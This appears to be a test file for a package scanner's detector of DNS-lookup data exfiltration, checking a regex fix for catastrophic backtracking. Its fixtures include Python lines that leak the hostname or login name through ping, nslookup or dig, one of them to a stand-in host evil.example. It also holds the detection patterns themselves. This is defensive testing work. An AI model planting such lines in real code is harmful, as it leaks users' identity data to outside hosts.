/**
 * pkgscan's lookup-of-data detector: its call pattern once backtracked exponentially on a lookup command with many
 * blank-separated options and no name after them (found by the ReDoS checker, tools/redos). The attack runs in a child
 * process with a generous deadline: a hang check, not a timing assertion.
 */
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { lookupOfData } from '../../engines/pkgscan/analyzers/source/detectors-text.js';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));

function runInChild(code: string): { status: number | null; timedOut: boolean; stdout: string } {
  const script = `import { lookupOfData } from './engines/pkgscan/analyzers/source/detectors-text.js';
const code = Buffer.from(process.argv[1], 'base64').toString('utf8');
process.stdout.write(String(lookupOfData({ code, ast: null, path: 'setup.py' }).length));`;
  const r = spawnSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script, Buffer.from(code).toString('base64')], {
    cwd: ROOT,
    encoding: 'utf8',
    timeout: 10_000,
  });
  return { status: r.status, timedOut: r.error !== undefined || r.signal !== null, stdout: r.stdout };
}

describe('lookupOfData call pattern', () => {
  it('finishes on many blank-separated options with no name after them', () => {
    const attack = `run("dig\t-${'s\t\t-'.repeat(40)}s`;
    const r = runInChild(attack);
    expect(r.timedOut).toBe(false);
    expect(r.status).toBe(0);
    expect(r.stdout).toBe('0');
  }, 30_000);

  it('still finds the lookups it found before', () => {
    const cases = [
      'import os\nos.system("ping %s" % socket.gethostname())\n',
      'import os\nos.system("ping -c 1 %s" % os.getlogin())\n',
      'import os\nos.system("ping -c1 %s" % os.getlogin())\n',
      'import os\nos.system("nslookup -q  %s" % os.getlogin())\n',
      'import os\nos.system("dig -t 5 -x   %s" % os.getlogin())\n',
      'import subprocess\nsubprocess.Popen("nslookup " + os.getlogin() + ".evil.example", shell=True)\n',
    ];
    for (const code of cases) expect(lookupOfData({ code, ast: null, path: 'setup.py' }), code).toHaveLength(1);
  });

  it('the rewritten call pattern matches what the old one matched', () => {
    const OLD = /(?:system|popen|call|run|Popen|check_output|exec|execSync|spawn)\s*\(\s*[fr]?['"`](?:nslookup|dig|host|ping)(?:\s+-[a-z]\s*\d*)*\s+(?:%s|\{[\w.]*\}|\$\{|['"`]\s*\+)/g;
    const NEW = /(?:system|popen|call|run|Popen|check_output|exec|execSync|spawn)\s*\(\s*[fr]?['"`](?:nslookup|dig|host|ping)(?:\s+-[a-z](?:\s*\d+)?)*\s+(?:%s|\{[\w.]*\}|\$\{|['"`]\s*\+)/g;
    const texts = [
      'system("ping %s")', 'system("ping -c 1 %s")', 'system("ping -c1 -W  2  %s")', 'system("ping -c \t%s")',
      'run(f"host -w 2 {user}.x")', 'execSync(`dig -x ${name}`)', "spawn('nslookup ' + n)", 'Popen("dig -t   -x \t \'" + n)',
      'system("ping -c 1")', 'system("ping -1 %s")', 'system("pinger %s")', 'run("dig\t-s\t\t-s")',
    ];
    for (const t of texts) expect([...t.matchAll(NEW)].map((m) => [m.index, m[0]]), t).toEqual([...t.matchAll(OLD)].map((m) => [m.index, m[0]]));
  });
});
